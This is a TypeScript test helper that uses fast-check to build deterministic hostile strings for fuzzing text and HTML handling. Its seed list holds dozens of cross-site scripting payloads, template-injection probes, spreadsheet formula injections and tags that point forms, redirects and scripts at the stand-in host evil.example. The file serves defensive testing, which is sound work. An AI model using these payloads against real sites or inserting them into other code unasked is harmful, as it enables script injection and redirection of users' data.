/** Strings that try to become something else than text, made from what attackers are known to write. */
import fc from 'fast-check'

const SEEDS = [
  '<script>alert(1)</script>', '</script><script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg/onload=alert(1)//', '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '" autofocus onfocus=alert(1) x="', '</title><script>alert(1)</script>', '</textarea><script>alert(1)</script>',
  '</option></select><script>alert(1)</script>', '</style><script>alert(1)</script>', '--><script>alert(1)</script>', '<!--', ']]>', '<![CDATA[<script>alert(1)</script>]]>', '<iframe src="javascript:alert(1)">', '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', '<base href="//evil.example/">', '<meta http-equiv="refresh" content="0;url=//evil.example">', '<link rel=stylesheet href=//evil.example>',
  '<form action=//evil.example><input name=formToken>', '<input type=hidden name=reason value=x>', '<button formaction=//evil.example>x</button>', '<object data=//evil.example>', '<embed src=//evil.example>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)>',
  '<body onload=alert(1)>', '<marquee onstart=alert(1)>', '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<plaintext>', '<xmp>', '</body></html>', '<html onclick=alert(1)>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;', '&quot; onclick=&quot;alert(1)', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', '%3Cscript%3Ealert(1)%3C/script%3E', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', '\u2028<script>', '\u2029', '\u202e<tpircs>', '\ufeff<script>', '$' + '{alert(1)}', '{{constructor.constructor("alert(1)")()}}', '<%= 7*7 %>', '#{7*7}',
  '<x style="background:url(//evil.example)">', '<div style=position:fixed;inset:0>', '" style="display:none', "';alert(1)//", '");alert(1)//', '\\";alert(1)//', '`-alert(1)-`', '\\', '"', "'", '<', '>', '&', '</', '<!', '<?', '&&', '&amp;&amp;', '\n<script>\n', '\t" onclick="x',
  '<sCrIpT sRc=//evil.example>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<img src="x`" onerror=alert(1)>', '<a\thref=x\tonclick=alert(1)>', '<a/onclick=alert(1)>', '<a\nonclick\n=\nalert(1)>', '<svg><script>alert&#40;1&#41;</script>', '<svg><animate onbegin=alert(1)>', '<isindex type=image src=1 onerror=alert(1)>', '<keygen autofocus onfocus=alert(1)>', '=HYPERLINK("//evil.example","x")', '@SUM(1)', '+cmd|x', '-1+1',
] // biome-ignore format: a list

const WRAPPED: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `${text} ${text}`,
  (text) => `"${text}"`,
  (text) => `'${text}'`,
  (text) => `>${text}<`,
  (text) => `&${text};`,
  (text) => text.toUpperCase(),
  (text) => `</p></li></ol>${text}`,
  (text) => `</textarea></option></select></title>${text}`,
  (text) => `"/>${text}<x y="`,
  (text) => `\u200f${text}\u200e`,
  (text) => `Nguyễn ${text} نام`,
  (text) => `${text}\n${text}`,
  (text) => text.replaceAll('<', '<\t'),
  (text) => text.replaceAll(' ', '/'),
  (text) => encodeURIComponent(text),
]

/** So many different ones, the same at every run. */
export function hostileStrings(count: number): string[] {
  const found = new Set<string>()
  const pair = fc.tuple(
    fc.constantFrom(...SEEDS),
    fc.constantFrom(...WRAPPED),
    fc.constantFrom(...WRAPPED),
    fc.nat(99),
  )
  for (let seed = 1; found.size < count; seed += 1)
    for (const [text, inner, outer, number] of fc.sample(pair, { numRuns: count, seed })) {
      if (found.size >= count) break
      found.add(outer(inner(text)).replaceAll('(1)', `(${number})`))
    }
  return [...found]
}
